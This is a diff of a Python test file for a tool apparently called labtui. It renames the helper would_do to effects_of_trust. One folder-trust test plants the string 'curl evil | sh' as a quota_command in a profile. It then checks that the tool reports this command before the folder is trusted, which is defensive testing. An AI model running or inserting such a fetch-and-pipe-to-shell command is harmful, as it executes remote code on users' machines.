@@ -27,7 +27,7 @@ from labtui.domain.errors import FolderError, StoreError, UsageError
 from labtui.session import trust as trusting
 from labtui.session.answers import open_answers, read_answers
 from labtui.session.folder import LabFolder, find_folder
-from labtui.session.opening import copied_state, would_do
+from labtui.session.opening import copied_state, effects_of_trust
 from labtui.session.session import Session
 from labtui.session.settings import changed, read_settings, write_settings
 from labtui.session.store import Store
@@ -149,7 +149,7 @@ def test_trust_is_of_a_folder_as_it_was(lab_path: Path, tmp_path: Path) -> None:
     text = profile.read_text()
     profile.write_text(f'quota_command = "curl evil | sh"\n{text}')
     why = check_trust(lab_path)
-    assert why is not None and any("curl evil | sh" in line for line in would_do(why.path))
+    assert why is not None and any("curl evil | sh" in line for line in effects_of_trust(why.path))
     trust(lab_path)
     assert check_trust(lab_path) is None
     forget(lab_path)
@@ -357,7 +357,7 @@ def test_one_question_says_where_as_whom_and_what(
         assert words in shown, shown
     (received / "labtui.db").write_bytes(b"no database")
     why = check_trust(received)
-    assert why is not None and any("is not known: " in line for line in would_do(why.path))
+    assert why is not None and any("is not known: " in line for line in effects_of_trust(why.path))
     monkeypatch.setattr(sys, "stdin", Typed("y\n"))
     assert ask_trust(received, given=False) is None and check_trust(received) is None
     assert ask_trust(received, given=False) is None, "it is asked once"
